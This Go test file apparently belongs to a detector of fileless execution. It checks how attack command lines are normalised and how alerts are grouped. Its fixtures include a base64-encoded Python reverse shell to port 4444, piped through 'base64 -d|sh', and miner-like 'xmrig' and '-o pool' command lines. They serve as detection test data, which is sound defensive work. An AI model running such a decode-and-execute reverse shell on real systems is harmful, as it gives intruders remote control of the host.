package deliver

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/filelessd/filelessd/pkg/event"
	"github.com/filelessd/filelessd/pkg/report"
)

// payload is code in base64, as one finds it on command lines: its words have any length.
const payload = "aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0+Yy5jb25uZWN0KChoLDQ0NDQpKTtb/" +
	"b3MuZHVwMihzLmZpbGVubygpLGYpZm9yIGYg+aW4oMCwxLDIpXTtwdHkuc3Bhd24oJy9iaW4vc2gnKSAj=="

func TestNormalise(t *testing.T) {
	tests := map[string]string{
		"":                                     "",
		"3 run helper.DoNothing":               "# run helper.DoNothing",
		"27 run helper.DoNothing":              "# run helper.DoNothing",
		"python3.11 -c x":                      "python#.# -c x",
		"cat /proc/4711/fd/9":                  "cat /proc/#/fd/#",
		"sh -c 'id > /tmp/tmp.Xk3aPq9bZ1/out'": "sh -c 'id > /tmp/tmp.#/out'",
		"sh /tmp/a8fK2x.sh":                    "sh /tmp/#.sh",
		"sh /tmp/install.sh":                   "sh /tmp/install.sh",
		"x --id 550e8400-e29b-41d4-a716-446655440000 y": "x --id # y",
		"x 550e8400-e29b-41d4-a716-4466554400001":       "x #-e#b-#d#-a#-#",
		"docker exec c61b4b13ae44 sh":                   "docker exec # sh",
		"x " + strings.Repeat("a1", 32):                 "x #",
		"x 0x7ffe1a2b":                                  "x #",
		"x deadbeef":                                    "x deadbeef", // a word, for all that is known
		"curl http://10.1.2.3:8080/a":                   "curl http://10.1.2.3:#/a",
		"curl http://10.1.2.30/a":                       "curl http://10.1.2.30/a",
		"v 1.2.3.4.5":                                   "v #.#.#.#.#",
		"v 1.2.3.4a":                                    "v #.#.#.#a",
		"v 1.2.3.4444":                                  "v #.#.#.#",
		"x --token=aZ09aZ09aZ09aZ09 y":                  "x --token=# y",
		"helper.DoNothingAtAllForALongTime":             "helper.DoNothingAtAllForALongTime",
		"2024-10-25T14:01:07Z":                          "#-#-#T#:#:#Z",
		"kworker/0:1-events":                            "kworker/#:#-events",
		"\xff\x00é 12":                                  "\xff\x00é #",
		"/dev/shm/Ab12Cd":                               "/dev/shm/#",
		"sh -c 'echo " + payload + "|base64 -d|sh'":     "sh -c 'echo " + payload + "|base# -d|sh'",
		"x -p " + strings.Repeat("7f454c46", 20):        "x -p " + strings.Repeat("7f454c46", 20),
		"x /v/" + strings.Repeat("a1", 32) + "/fs/" + strings.Repeat("b2", 32) + "/merged/usr/lib/locale/share/x86/lib": "x /v/#/fs/#/merged/usr/lib/locale/share/x#/lib",
		"x " + strings.Repeat("f0", 64): "x #",
	}
	for in, want := range tests {
		if got := normalise(in); got != want {
			t.Errorf("%q becomes %q, want %q", in, got, want)
		}
	}
}

func FuzzNormalise(f *testing.F) {
	f.Add("3 run /tmp/tmp.Xk3aPq9bZ1 10.0.0.1")
	f.Fuzz(func(t *testing.T, s string) {
		once := normalise(s)
		if len(once) > len(s) {
			t.Errorf("%q grew to %q", s, once)
		}
	})
}

// attack is an alert, and what may differ between repeats of it.
type attack struct {
	technique                report.Technique
	host, image, tag, digest string
	cmdline, parent, grandpa string
	pid, fd, uid             int
	container                string
	at                       time.Time
	rule                     string
}

func (a attack) report() *report.Report {
	e := &event.Event{Time: a.at, Received: a.at, Rule: a.rule, Hostname: a.host, Source: "syscall"}
	e.SetField("proc.cmdline", fmt.Sprintf(a.cmdline, a.fd))
	e.SetField("proc.pid", fmt.Sprint(a.pid))
	e.SetField("proc.pexepath", a.parent)
	e.SetField("proc.aname[2]", a.grandpa)
	e.SetField("container.id", a.container)
	e.SetField("user.uid", fmt.Sprint(a.uid))
	if a.image != "" {
		e.SetField("container.image.repository", a.image)
		e.SetField("container.image.tag", a.tag)
		e.SetField("container.image.digest", a.digest)
	}
	return &report.Report{
		ID: e.ID(), Kind: report.KindAlert, SchemaVersion: report.SchemaVersion, CreatedAt: a.at, Event: e,
		Technique: a.technique, Severity: report.High, Title: "Execution", Summary: "It happened.", Score: 55,
	}
}

func hostAttack() attack {
	return attack{
		technique: "memfd_exec", host: "node-1", cmdline: "%d -o pool", parent: "/usr/sbin/php-fpm8.2", grandpa: "systemd",
		pid: 100, fd: 3, container: "host", at: time.Date(2026, 5, 1, 12, 0, 0, 1, time.UTC), rule: "r",
	}
}

func imageAttack() attack {
	a := hostAttack()
	a.image, a.tag, a.container = "registry.example/shop/web", "1.4", "9f2d61c07be3"
	return a
}

// TestKeySplitsByTheAttackOnly changes at random what is another one with each run, and what makes
// another attack.
func TestKeySplitsByTheAttackOnly(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	const hexadecimal = "0123456789abcdef"
	splits := map[string]func(*attack){
		"technique":   func(a *attack) { a.technique = "fd_exec" },
		"command":     func(a *attack) { a.cmdline = "%d -o other" },
		"address":     func(a *attack) { a.cmdline = "%d -o pool 10.0.0.7" },
		"parent":      func(a *attack) { a.parent = "/usr/bin/nginx" },
		"grandparent": func(a *attack) { a.grandpa = "containerd" },
	}
	for _, base := range []attack{hostAttack(), imageAttack()} {
		want := KeyOf(base.report())
		for range 500 {
			a := base
			a.pid, a.fd, a.uid = rng.IntN(1<<22), rng.IntN(1024), rng.IntN(1000)
			a.at = a.at.Add(time.Duration(rng.Int64N(1e18)))
			a.rule = fmt.Sprint("rule ", rng.IntN(9))
			if a.image != "" {
				id := make([]byte, 12)
				for i := range id {
					id[i] = hexadecimal[rng.IntN(16)]
				}
				a.container = string(id)
				a.host = fmt.Sprint("node-", rng.IntN(100))
			}
			if got := KeyOf(a.report()); got != want {
				t.Fatalf("%+v is not in the group of %+v", a, base)
			}
			for name, split := range splits {
				b := a
				split(&b)
				if got := KeyOf(b.report()); got.Group == want.Group || got.Shape == want.Shape {
					t.Fatalf("another %s is in the same group", name)
				}
			}
		}
	}
	host, other := hostAttack(), hostAttack()
	other.host = "node-2"
	if a, b := KeyOf(host.report()), KeyOf(other.report()); a.Group == b.Group || a.Shape != b.Shape {
		t.Errorf("hosts: %v, %v", a, b)
	}
	image, other := imageAttack(), imageAttack()
	other.tag = "1.5"
	if KeyOf(image.report()).Group == KeyOf(other.report()).Group {
		t.Error("another tag is in the same group")
	}
	image.digest, other.digest = "sha256:aa", "sha256:aa"
	if KeyOf(image.report()).Group != KeyOf(other.report()).Group {
		t.Error("the same digest under another tag is another group")
	}
}

// TestKeyOfADescriptor: the programs that one parent starts by fexecve have the number of a descriptor
// for a name, and are told apart by the names of their files.
func TestKeyOfADescriptor(t *testing.T) {
	key := func(cmdline, exepath string) string {
		r := hostAttack().report()
		r.Event.SetField("proc.cmdline", cmdline)
		r.Event.SetField("proc.exepath", exepath)
		return KeyOf(r).Group
	}
	if key("3", "memfd:nginx") == key("3", "memfd:xmrig") {
		t.Error("two programs in one group")
	}
	if key("3 -o a", "memfd:run-17") != key("27 -o a", "memfd:run-18") {
		t.Error("one program in two groups")
	}
	if key("x -o a", "memfd:a") != key("x -o a", "memfd:b") || key("", "memfd:a") == key("", "memfd:b") {
		t.Error("a command line that names its program is not enough")
	}
}

// TestKeyHoldsNothingOfTheAttacker: whatever an alert says, its key is short and plain.
func TestKeyHoldsNothingOfTheAttacker(t *testing.T) {
	a := hostAttack()
	a.cmdline = "%d " + strings.Repeat("\x1b[2J\u202e\xff ", 100_000)
	a.parent = "/proc/" + strings.Repeat("x/", 10_000)
	a.host = strings.Repeat("h", 1<<20)
	key := KeyOf(a.report())
	for _, k := range []string{key.Group, key.Shape} {
		if len(k) != 32 || strings.Trim(k, "0123456789abcdef") != "" {
			t.Errorf("key %q", k)
		}
	}
	if (KeyOf(&report.Report{}) != Key{}) {
		t.Error("a report without an event has a key")
	}
}
